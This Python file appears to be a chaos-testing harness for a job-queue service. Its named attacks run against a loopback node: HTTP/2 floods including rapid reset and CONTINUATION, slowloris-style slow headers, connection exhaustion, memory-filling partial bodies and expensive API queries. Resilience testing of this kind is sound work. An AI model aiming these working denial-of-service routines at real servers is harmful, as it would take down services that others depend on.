"""The attacks, each by its name. One runs until it is cancelled, and begins again whatever the node does.

    python -m chaos.attack.attacks NAME PORT     in a process of its own, until it is killed

All connections come from addresses of the loopback and go to the loopback.
"""

import asyncio
import json
import random
import sys
from collections.abc import Awaitable, Callable, Iterator
from contextlib import asynccontextmanager, suppress
from itertools import count
from typing import Final

Wire = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[[int], Awaitable[None]]

#: By name.
ATTACKS: Final[dict[str, Attack]] = {}

MB: Final = 1024 * 1024
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
#: `:method: GET`, `:scheme: http`, `:path: /`, `:authority: localhost`, in HPACK.
_GET: Final = b"\x82\x86\x84\x41\x09localhost"
_POST: Final = b"\x83\x86\x44\x0d/api/v1/fetch\x41\x09localhost"


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


# Means


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head(method: str, path: str, *lines: str) -> bytes:
    return "\r\n".join([f"{method} {path} HTTP/1.1", "host: localhost", *lines, "", ""]).encode()


@asynccontextmanager
async def connected(port: int, address: int = 2):  # type: ignore[no-untyped-def]  # a context of a Wire
    local = (f"127.0.0.{address}", 0)
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=local)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def again_and_again(work: Callable[[], Awaitable[None]]) -> None:
    while True:
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            await work()
        await asyncio.sleep(0.01)


async def by_many(crowd: int, work: Callable[[int], Awaitable[None]]) -> None:
    async with asyncio.TaskGroup() as group:
        for number in range(crowd):
            group.create_task(again_and_again(lambda number=number: work(number)))


async def _drop_what_comes(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(65_536):
            """Nobody wants it."""


async def _flood(port: int, begin: bytes, each: Iterator[bytes]) -> None:
    async with connected(port) as (reader, writer):
        listening = asyncio.ensure_future(_drop_what_comes(reader))
        writer.write(PREFACE + frame(SETTINGS) + begin)
        while not listening.done():
            writer.write(b"".join(next(each) for _ in range(500)))
            await writer.drain()


def _always(piece: bytes) -> Iterator[bytes]:
    while True:
        yield piece


# Floods of frames


@attack
async def pings(port: int) -> None:
    await by_many(4, lambda _: _flood(port, b"", _always(frame(PING, b"12345678"))))


@attack
async def settings(port: int) -> None:
    await by_many(4, lambda _: _flood(port, b"", _always(frame(SETTINGS))))


@attack
async def window_updates(port: int) -> None:
    await by_many(4, lambda _: _flood(port, b"", _always(frame(UPDATE, b"\0\0\0\1"))))


@attack
async def empty_data(port: int) -> None:
    begun = frame(HEADERS, _POST, flags=4, stream=1)
    await by_many(4, lambda _: _flood(port, begun, _always(frame(DATA, stream=1))))


@attack
async def priorities(port: int) -> None:
    frames = (frame(PRIORITY, b"\0\0\0\0\x10", stream=1 + 2 * (n % 100_000)) for n in count())
    await by_many(4, lambda _: _flood(port, b"", frames))


@attack
async def continuations(port: int) -> None:
    begun = frame(HEADERS, _GET, stream=1)
    await by_many(4, lambda _: _flood(port, begun, _always(frame(CONTINUATION, b"\0" * 16, stream=1))))


@attack
async def rapid_resets(port: int) -> None:
    def resets() -> Iterator[bytes]:
        for number in range(1, 1 << 31, 2):
            yield frame(HEADERS, _GET, flags=5, stream=number) + frame(RESET, b"\0\0\0\x08", stream=number)

    await by_many(4, lambda _: _flood(port, b"", resets()))


@attack
async def open_streams(port: int) -> None:
    """Two thousand requests on each connection, none of them complete."""

    async def work(_: int) -> None:
        async with connected(port) as (reader, writer):
            opened = b"".join(frame(HEADERS, _POST, flags=4, stream=n) for n in range(1, 4_000, 2))
            writer.write(PREFACE + frame(SETTINGS) + opened)
            await _drop_what_comes(reader)

    await by_many(4, work)


# Connections


@attack
async def idle_connections(port: int) -> None:
    async def work(number: int) -> None:
        async with connected(port, 2 + number % 8) as (reader, _):
            await _drop_what_comes(reader)

    await by_many(1_500, work)


@attack
async def slow_heads(port: int) -> None:
    async def work(number: int) -> None:
        async with connected(port, 2 + number % 8) as (_, writer):
            for byte in head("POST", "/api/v1/enqueue", "content-length: 10"):
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(0.5)

    await by_many(500, work)


@attack
async def connection_churn(port: int) -> None:
    async def work(number: int) -> None:
        async with connected(port, 2 + number % 8) as (_, writer):
            writer.write(head("GET", "/healthz"))

    await by_many(50, work)


@attack
async def nonsense(port: int) -> None:
    chance = random.Random(7)
    begins = (b"", PREFACE, b"GET / HTTP/1.1\r\n", b"\x16\x03\x01", head("POST", "/api/v1/enqueue"))

    async def work(_: int) -> None:
        async with connected(port) as (reader, writer):
            writer.write(chance.choice(begins) + chance.randbytes(2_000))
            async with asyncio.timeout(0.2):
                await _drop_what_comes(reader)

    async def patiently(number: int) -> None:
        with suppress(TimeoutError):
            await work(number)

    await by_many(20, patiently)


# Memory


@attack
async def half_sent_bodies(port: int) -> None:
    piece = b" " * MB

    async def work(number: int) -> None:
        path = ("/api/v1/enqueue", "/api/v1/jobs/search")[number % 2]
        async with connected(port) as (reader, writer):
            writer.write(head("POST", path, f"content-length: {16 * MB}"))
            for _ in range(15):
                writer.write(piece)
                await writer.drain()
            await _drop_what_comes(reader)

    await by_many(40, work)


@attack
async def half_sent_lines(port: int) -> None:
    piece = b"10000\r\n" + b" " * 65_536 + b"\r\n"

    async def work(_: int) -> None:
        async with connected(port) as (reader, writer):
            writer.write(head("POST", "/api/v1/stream", "transfer-encoding: chunked"))
            for _ in range(15 * 16):
                writer.write(piece)
                await writer.drain()
            await _drop_what_comes(reader)

    await by_many(40, work)


@attack
async def unread_answers(port: int) -> None:
    jobs = {"jobs": [{"queue": "heavy", "payload": "x" * 200_000}] * 50}
    fill = json.dumps(jobs).encode()
    ask = json.dumps({"queue": "heavy", "limit": 1_000}).encode()
    async with connected(port) as (reader, writer):
        for _ in range(4):
            writer.write(head("POST", "/api/v1/enqueue/batch", f"content-length: {len(fill)}") + fill)
            await reader.readuntil(b"\r\n\r\n")

    async def work(_: int) -> None:
        async with connected(port) as (_, writer):
            writer.write(head("POST", "/api/v1/jobs/search", f"content-length: {len(ask)}") + ask)
            await writer.drain()
            writer.transport.pause_reading()
            await asyncio.sleep(20)

    await by_many(20, work)


# What takes long


async def _ask_for(port: int, crowd: int, *requests: bytes) -> None:
    async def work(number: int) -> None:
        async with connected(port) as (reader, writer):
            writer.write(requests[number % len(requests)])
            await _drop_what_comes(reader)

    await by_many(crowd, work)


async def _make_queues(port: int, queues: int) -> None:
    for at in range(0, queues, 1_000):
        jobs = {"jobs": [{"queue": f"queue-{number}"} for number in range(at, at + 1_000)]}
        body = json.dumps(jobs).encode()
        async with connected(port) as (reader, writer):
            lines = (f"content-length: {len(body)}", "connection: close")
            writer.write(head("POST", "/api/v1/enqueue/batch", *lines) + body)
            await _drop_what_comes(reader)


@attack
async def lists_of_many_queues(port: int) -> None:
    await _make_queues(port, 30_000)
    paths = ("/api/v1/queues", "/metrics", "/api/v1/metrics/throughput/queues", "/api/v1/cluster/status")
    await _ask_for(port, 4, *(head("GET", path, "connection: close") for path in paths))


@attack
async def costly_questions(port: int) -> None:
    cron = json.dumps({"cron": "0 0 0 29 2 0", "timezone": "Europe/Berlin", "n": 100}).encode()
    text = json.dumps({"payload_contains": "x" * 255 + "y", "limit": 1_000}).encode()
    number = b'{"queue":"q","payload":' + b"9" * 900_000 + b"}"
    await _ask_for(
        port,
        8,
        *(
            head("POST", path, f"content-length: {len(body)}", "connection: close") + body
            for path, body in (
                ("/api/v1/schedules/preview", cron),
                ("/api/v1/jobs/search", text),
                ("/api/v1/enqueue", number),
            )
        ),
        head("GET", "/openapi.json", "connection: close"),
    )


@attack
async def event_readers(port: int) -> None:
    async def work(number: int) -> None:
        async with connected(port, 2 + number % 8) as (reader, writer):
            writer.write(head("GET", "/api/v1/events"))
            await _drop_what_comes(reader)

    await by_many(2_000, work)


def main() -> None:
    name, port = sys.argv[1], int(sys.argv[2])
    asyncio.run(ATTACKS[name](port))  # type: ignore[arg-type]  # each is a coroutine function


if __name__ == "__main__":
    main()
